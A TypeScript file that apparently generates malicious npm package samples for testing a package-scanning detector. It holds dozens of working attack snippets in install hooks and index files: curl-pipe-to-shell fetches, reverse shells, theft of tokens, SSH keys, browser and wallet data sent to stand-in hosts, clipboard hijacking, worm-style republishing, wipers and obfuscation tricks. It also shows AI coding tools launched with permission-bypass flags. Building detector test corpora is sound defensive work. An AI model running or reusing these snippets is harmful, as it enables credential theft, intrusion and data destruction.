// Samples in JavaScript, as npm packages: plain, lightly hidden, split over files or callbacks.
import { base64, escaped, hex, numbers, obfuscated, reversed } from './sample-text.ts'
import type { Sample } from './samples.ts'

const C2 = 'https://collector.invalid'
const IP = 'http://198.51.100.7'

/** Behaviour, then variants: code of `index.js` that is imported, or of `hook.js` that runs at install, or whole packages. */
export function scriptSamples(): Sample[] {
  return [
    ...hooks(2, [
      `const { execSync } = require('child_process'); execSync('curl -s ${IP}/a.sh | sh')`,
      `const fs=require('fs'),http=require('http'),cp=require('child_process');const f=fs.createWriteStream('/tmp/u');http.get('${IP}/u',(r)=>{r.pipe(f);f.on('finish',()=>{f.close();fs.chmodSync('/tmp/u',0o755);cp.spawn('/tmp/u',[],{detached:true})})})`,
      `import { exec as run } from 'node:child_process'; import { writeFile } from 'node:fs/promises'; const r = await fetch('https://files.invalid/t.exe'); const p = process.env.TEMP + '/t.exe'; await writeFile(p, Buffer.from(await r.arrayBuffer())); run(p)`,
    ]),
    ...commands(2, [
      'curl -fsSL https://files.invalid/i.sh | bash',
      'wget -q http://203.0.113.9/b -O /tmp/b && chmod +x /tmp/b && /tmp/b &',
      'sh -c "$(curl -fsSL https://files.invalid/x)"',
    ]),
    ...commands(3, [
      `node -e "require('https').get('${C2}/?h='+require('os').hostname())"`,
      `python3 -c "import urllib.request as u;exec(u.urlopen('${C2}/p').read())"`,
      'powershell -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
    ]),
    ...commands(4, [
      'node setup_bun.js',
      'curl -fsSL https://bun.sh/install | bash && bun run bun_environment.js',
      'node setup.mjs',
    ]),
    ...imports(6, [
      `const https=require('https');https.get('${C2}/s',(r)=>{let b='';r.on('data',(d)=>b+=d);r.on('end',()=>eval(b))})`,
      `const axios=require('axios');(async()=>{const {data}=await axios.get('${C2}/s');new Function('require',data.cookie)(require)})()`,
      `import('node-fetch').then(async ({default:f})=>{const t=await (await f('${C2}/s')).text();(0,eval)(t)})`,
    ]),
    ...imports(7, [
      `fetch('${C2}',{method:'POST',body:JSON.stringify(process.env)})`,
      `const e={...process.env};const h=require('https');const q=h.request({hostname:'collector.invalid',method:'POST'});q.write(Buffer.from(JSON.stringify(e)).toString('base64'));q.end()`,
      `const data=Object.entries(process.env).map(([k,v])=>k+'='+v).join('&');require('axios').post('${C2}',data)`,
    ]),
    ...imports(8, [
      `fetch('${C2}',{method:'POST',body:JSON.stringify({a:process.env.NPM_TOKEN,b:process.env.GITHUB_TOKEN})})`,
      `const {AWS_SECRET_ACCESS_KEY:s,AWS_ACCESS_KEY_ID:i}=process.env;require('https').get('${C2}/?'+s+'&'+i)`,
      `const t=[process.env['NPM_TOKEN'],process.env['AWS_SECRET_ACCESS_KEY']];const x=new XMLHttpRequest();x.open('POST','${C2}');x.send(t.join())`,
    ]),
    ...imports(9, [
      `const fs=require('fs'),os=require('os'),p=require('path');const d=fs.readFileSync(p.join(os.homedir(),'.npmrc'),'utf8');fetch('${C2}',{method:'POST',body:d})`,
      `const {readFile}=require('fs/promises');readFile(process.env.HOME+'/.aws/credentials','utf8').then((d)=>require('axios').post('${C2}',{d}))`,
      `const fs=require('fs');for(const f of ['.aws/credentials','.ssh/id_rsa','.npmrc','.git-credentials']){fs.readFile(require('os').homedir()+'/'+f,(e,d)=>{if(d)require('https').request({host:'collector.invalid',method:'POST'}).end(d)})}`,
    ]),
    ...imports(10, [
      `const fs=require('fs'),os=require('os');const k=fs.readFileSync(os.homedir()+'/.ssh/id_rsa');require('axios').post('${C2}',k)`,
      `const fs=require('fs'),os=require('os');fs.appendFileSync(os.homedir()+'/.ssh/authorized_keys','ssh-rsa AAAA x')`,
      `const {promises:f}=require('fs');(async()=>{const k=await f.readFile(require('os').homedir()+'/.ssh/id_ed25519','utf8');await fetch('${C2}',{method:'POST',body:k})})()`,
    ]),
    ...imports(11, [
      `const p=process.env.LOCALAPPDATA+'/Google/Chrome/User Data/Default/Login Data';const fs=require('fs');require('axios').post('${C2}',fs.readFileSync(p))`,
      `const fs=require('fs');const r=/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g;for(const f of fs.readdirSync(process.env.APPDATA+'/discord/Local Storage/leveldb'))console.log(fs.readFileSync(f,'utf8').match(r))`,
      `const home=require('os').homedir();const paths=[home+'/Library/Application Support/Google/Chrome/Default/Cookies',home+'/.mozilla/firefox/logins.json'];const fs=require('fs');for(const p of paths)fetch('${C2}',{method:'POST',body:fs.readFileSync(p)})`,
    ]),
    ...imports(12, [
      `const fs=require('fs');const w=process.env.APPDATA+'/Exodus/exodus.wallet';require('axios').post('${C2}',fs.readdirSync(w))`,
      `const ids=['nkbihfbeogaeaoehlefnkodbefgpgknn','bfnaelmomeimhlpmgjnjophhpkkoljpa'];const fs=require('fs'),base=process.env.LOCALAPPDATA+'/Google/Chrome/User Data/Default/Local Extension Settings/';const https=require('https');ids.forEach((i)=>https.request('${C2}').end(fs.readdirSync(base+i)))`,
      `const k=require('fs').readFileSync(require('os').homedir()+'/.config/solana/id.json','utf8');fetch('${C2}',{method:'POST',body:k})`,
    ]),
    ...imports(13, [
      `const c=require('clipboardy');setInterval(()=>{const t=c.readSync();if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(t))c.writeSync('bc1qaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa')},300)`,
      `const {execSync}=require('child_process');setInterval(()=>{const t=execSync('pbpaste').toString();if(/^0x[a-fA-F0-9]{40}$/.test(t))execSync('echo 0x1111111111111111111111111111111111111111 | pbcopy')},500)`,
      `const {clipboard}=require('electron');setInterval(()=>{const t=clipboard.readText();if(t.match(/^0x[a-fA-F0-9]{40}$/))clipboard.writeText("0x1111111111111111111111111111111111111111")},500)`,
    ]),
    ...imports(14, [
      `const mine=['0x1111111111111111111111111111111111111111'];if(typeof window!=='undefined'&&window.ethereum){const r=window.ethereum.request;window.ethereum.request=(a)=>r(swap(a,mine));const f=window.fetch;window.fetch=async(...a)=>swap(await f(...a),mine)}`,
      `const o=XMLHttpRequest.prototype.send;const w=["0x1111111111111111111111111111111111111111","bc1qaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"];XMLHttpRequest.prototype.send=function(b){return o.call(this,near(b,w))};window.ethereum&&hook(window.ethereum)`,
      `let f=globalThis.fetch;globalThis.fetch=(u,o)=>f(u,o).then((r)=>patch(r,'0x1111111111111111111111111111111111111111'));const q=window.ethereum.request;`,
    ]),
    ...imports(15, [
      `require('axios').post('https://discord.com/api/webhooks/1111111111111111111/abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyzabcdefghijklmnop',{content:'x'})`,
      `fetch(atob('${base64('https://discord.com/api/webhooks/1111111111111111111/abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyz')}'),{method:'POST'})`,
      `const u='${reversed('https://discordapp.com/api/webhooks/1111111111111111111/abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyz')}'.split('').reverse().join('');fetch(u)`,
    ]),
    ...imports(16, [
      `fetch('https://api.telegram.org/bot1234567890:AAabcdefghijklmnopqrstuvwxyz123456789/sendMessage?chat_id=1&text=x')`,
      `const t='1234567890:AAabcdefghijklmnopqrstuvwxyz123456789';require('https').get('https://api.telegram.org/bot'+t+'/sendMessage?text=x')`,
      `const u=Buffer.from('${base64('https://api.telegram.org/bot1234567890:AAabcdefghijklmnopqrstuvwxyz123456789/sendMessage')}','base64').toString();require('axios').post(u)`,
    ]),
    ...imports(17, [
      `require('https').get('https://cabcdefghijk123456789.oast.fun/')`,
      `fetch('https://webhook.site/11111111-2222-3333-4444-555555555555',{method:'POST',body:require('os').hostname()})`,
      `require('axios').post('https://eoabcdefghijklm.m.pipedream.net',{d:__dirname})`,
    ]),
    ...imports(18, [
      `const dns=require('dns'),os=require('os');dns.lookup(os.hostname()+'.x.collector.invalid',()=>{})`,
      `const {Resolver}=require('dns');const h=Buffer.from(JSON.stringify(process.env)).toString('hex');require('dns').resolve4(h.slice(0,60)+'.d.collector.invalid',()=>{})`,
      `import { resolve } from 'node:dns/promises'; import { userInfo } from 'node:os'; resolve(\`\${userInfo().username}.d.collector.invalid\`)`,
    ]),
    ...hooks(19, [
      `const os=require('os'),https=require('https');const d=JSON.stringify({h:os.hostname(),u:os.userInfo().username,c:__dirname,n:os.networkInterfaces()});const r=https.request({hostname:'collector.invalid',method:'POST'});r.write(d);r.end()`,
      `const {exec}=require('child_process');exec('whoami',(e,o)=>{require('https').get('${C2}/?u='+o)})`,
      `const o=require('os');const q=new URLSearchParams({a:o.hostname(),b:process.cwd()});require('http').get('http://collector.invalid/?'+q)`,
    ]),
    ...hooks(20, [
      `require('http').get('${IP}:8080/ping')`,
      `const s=new (require('net').Socket)();s.connect(4444,'198.51.100.7')`,
      `require('child_process').exec('curl ${IP}/a -o a && node a')`,
    ]),
    ...imports(21, [
      `fetch('https://pastebin.com/raw/abcd1234').then((r)=>r.text()).then((t)=>require('child_process').exec(t))`,
      `require('axios').get('https://www.jsonkeeper.com/b/ABCD').then((r)=>{new Function(r.data.x)()})`,
      `const r=await fetch('https://rentry.co/abcd/raw');require('vm').runInThisContext(await r.text())`,
    ]),
    ...imports(22, [
      `const p=await fetch('https://bsc-dataseed.invalid',{method:'POST',body:JSON.stringify({method:'eth_getTransactionByHash'})});const j=await p.json();eval(Buffer.from(j.result.input.slice(2),'hex').toString('utf8'))`,
      `const {Connection}=require('@solana/web3.js');const s=await c.getSignaturesForAddress(k);const m=JSON.parse(s[0].memo);eval(atob((await (await fetch(m.link)).text())))`,
      `const page=await (await fetch('https://calendar.app.google/abcdef')).text();eval(atob(page.match(/data-base-title="([^"]+)"/)[1]))`,
    ]),
    ...imports(23, [
      `eval(Buffer.from('${base64('console.log(1)')}','base64').toString())`,
      `const a=atob,b='${base64('console.log(1)')}';const f=new Function(a(b));f()`,
      `const v=require('vm');const p=Buffer.from('${hex('console.log(1)')}','hex');v.runInNewContext(p.toString())`,
      `const k=[${numbers('console.log(1)', 7)}];let s='';for(const n of k)s+=String.fromCharCode(n^7);(0,eval)(s)`,
      `require('${escaped('child_process')}').exec('id')`,
      `const m=['ss','ce','pro','d_','il','ch'].reverse().join('');const cp=require(m.replace('ssce','cess'));global['ev'+'al'](unescape('%63%6f%6e'))`,
    ]),
    ...imports(24, [
      obfuscated('require child_process exec hello world this is a long string'),
      `module.exports=1;${obfuscated('another payload with more words in it to be long enough')}`,
      obfuscated('third'),
    ]),
    ...imports(25, [
      `eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp(c,'g'),k[c]);return p}('0 1',2,2,'a|b'.split('|'),0,{}))`.replace(
        'eval',
        'eval',
      ),
      `var a=["${escaped('child_process exec curl hello world child_process exec curl hello world child_process exec curl hello world 1')}"];global[a[0]]`,
      `${'[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])[!+[]+!+[]]]'.repeat(20)}()`,
    ]).slice(1),
    ...imports(27, [
      `module.exports = {};${' '.repeat(300)}require('child_process').exec('id')`,
      `const x = 1;${'\t'.repeat(200)};eval(atob(y))`,
      `// helper\nfunction add(a,b){return a+b}${' '.repeat(500)};global['r']=require;`,
    ]),
    ...imports(28, [
      `const s='${'\ufe01\ufe02\ufe03\ufe04\ufe05\ufe06'.repeat(10)}';eval(decode(s))`,
      `const s=\`${'\u{e0101}\u{e0110}\u{e0120}'.repeat(20)}\`;module.exports=s`,
      `const o={'${'\u3164\uffa0'.repeat(20)}':1}`,
    ]),
    ...imports(29, [
      `if (level !== "user\u202e \u2066// admin only\u2066") { grant() }`,
      `function \u0430dmin(){}; function r\u0435quest(){}`,
      `/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin */ run()`,
    ]),
    ...imports(30, [
      `const d=require('fs').readFileSync(__dirname+'/logo.png');let s='';for(let i=0;i<d.length;i++)s+=d[i] & 1;eval(bits(s))`,
      `const fs=require('fs');const t=fs.readFileSync('./font.woff2','utf8');new Function(t.slice(t.lastIndexOf('//')))()`,
      `const {PNG}=require('pngjs');const p=PNG.sync.read(require('fs').readFileSync('a.png'));const c=p.data.map((v)=>v & 1);eval(text(c))`,
    ]),
    ...imports(31, [
      `const net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);const c=new net.Socket();c.connect(4444,'198.51.100.7',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c)})`,
      `require('child_process').exec('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')`,
      `require('child_process').spawn('nc',['-e','/bin/sh','198.51.100.7','4444'])`,
    ]),
    ...hooks(32, [
      `fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/').then((r)=>r.text()).then((t)=>fetch('${C2}/?'+t))`,
      `require('http').get({host:'metadata.google.internal',path:'/x'});const u='http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token'`,
      `require('http').get('http://169.254.170.2'+process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI)`,
    ]),
    ...imports(33, [
      `const cp=require('child_process'),fs=require('fs'),os=require('os');const t=fs.readFileSync(os.homedir()+'/.npmrc','utf8').match(/_authToken=(.*)/)[1];const me=cp.execSync('npm whoami').toString();for(const p of list){p.scripts.postinstall='node b.js';cp.execSync('npm publish '+p.tarball)}`,
      `const {execSync:x}=require('child_process');const k=process.env.NPM_TOKEN;fetch('https://registry.invalid/-/v1/search?text=maintainer:me').then(async(r)=>{for(const o of (await r.json()).objects){pkg.scripts.preinstall='node s.js';x('npm publish',{cwd:o.tarball})}})`,
      `const t=require('os').homedir()+'/.npmrc';const tok=require('fs').readFileSync(t,'utf8');fetch('${C2}',{method:'POST',body:tok});require('child_process').execSync('npm publish --access public')`,
    ]),
    ...hooks(34, [
      `const fs=require('fs');fs.mkdirSync('.github/workflows',{recursive:true});fs.writeFileSync('.github/workflows/discussion.yaml',body)`,
      `octokit.repos.createForAuthenticatedUser({name:'x',description:'Sha1-Hulud: The Second Coming.',private:false})`,
      `const cp=require('child_process');const r=await fetch('https://api.invalid/repos/a/b/actions/runners/registration-token');cp.execSync('./config.sh --unattended --token '+r+' && ./run.sh')`,
    ]),
    ...hooks(35, [
      `require('child_process').execSync('trufflehog filesystem '+require('os').homedir()+' --json')`,
      `require('child_process').spawn('gitleaks',['detect','-s','/'])`,
      `const cp=require('child_process');const bin='/tmp/trufflehog';cp.execFile(bin,['filesystem','/'])`,
    ]),
    ...hooks(36, [
      `require('child_process').spawn('claude',['--dangerously-skip-permissions','-p','find wallets'])`,
      `require('child_process').execSync('gemini --yolo -p "search files"')`,
      `const fs=require('fs');fs.writeFileSync(require('os').homedir()+'/.claude/settings.json','{}')`,
    ]),
    ...hooks(37, [
      `require('child_process').execSync('(crontab -l; echo "* * * * * node /tmp/x.js") | crontab -')`,
      `const fs=require('fs'),os=require('os');fs.appendFileSync(os.homedir()+'/.bashrc','node /tmp/x.js &')`,
      `require('child_process').exec('reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v u /d c:\\\\u.exe')`,
    ]),
    ...hooks(38, [
      `require('fs').rmSync(require('os').homedir(),{recursive:true,force:true})`,
      `require('child_process').exec('rm -rf ~/*')`,
      `const g=await (await fetch('https://api.invalid/ipgeolocation')).json();const c=g.country_name.toLowerCase();if(c.includes('russia')||c.includes('belarus'))for(const p of files)require('fs').writeFileSync(p,'x')`,
    ]),
    ...hooks(39, [
      `const fs=require('fs'),cp=require('child_process');fs.writeFileSync('/tmp/m',Buffer.from('${base64('\x7fELF'.padEnd(60, 'x'))}','base64'));fs.chmodSync('/tmp/m',0o755);cp.spawn('/tmp/m')`,
      `const cp=require('child_process');cp.exec('./xmrig -o stratum+tcp://pool.invalid:3333 -u w')`,
      `const p=require('path').join(process.env.TEMP,'a.exe'),fs=require('fs');fs.writeFileSync(p,Buffer.from(DATA,'hex'));require('child_process').execFile(p)`,
    ]),
    ...dependencySamples(),
  ]
}

function imports(behaviour: number, variants: readonly string[]): Sample[] {
  return variants.map((text, i) => ({ ...base(behaviour, i), files: { 'index.js': text } }))
}

function hooks(behaviour: number, variants: readonly string[]): Sample[] {
  return variants.map((text, i) => ({
    ...base(behaviour, i),
    files: { 'hook.js': text, 'index.js': 'module.exports = 1' },
    scripts: { postinstall: 'node hook.js' },
  }))
}

function commands(behaviour: number, variants: readonly string[]): Sample[] {
  return variants.map((text, i) => ({
    ...base(behaviour, i),
    id: `${behaviour} js command ${i + 1}`,
    files: { 'index.js': 'module.exports = 1', 'setup_bun.js': '1', 'setup.mjs': '1' },
    scripts: { preinstall: text },
  }))
}

function base(behaviour: number, i: number): Pick<Sample, 'id' | 'behaviour' | 'language' | 'ecosystem'> {
  return { id: `${behaviour} js ${i + 1}`, behaviour, language: 'js', ecosystem: 'npm' }
}

function dependencySamples(): Sample[] {
  const files = { 'index.js': 'module.exports = 1', 'hook.js': '1' }
  return [
    { ...base(41, 0), files, dependencies: { 'ui-styles': 'http://packages.invalid/npm/ui-styles' } },
    { ...base(41, 1), files, scripts: { preinstall: 'node hook.js' }, version: '99.9.9' },
    { ...base(41, 2), files, dependencies: { a: 'https://files.invalid/a.tgz' } },
  ]
}
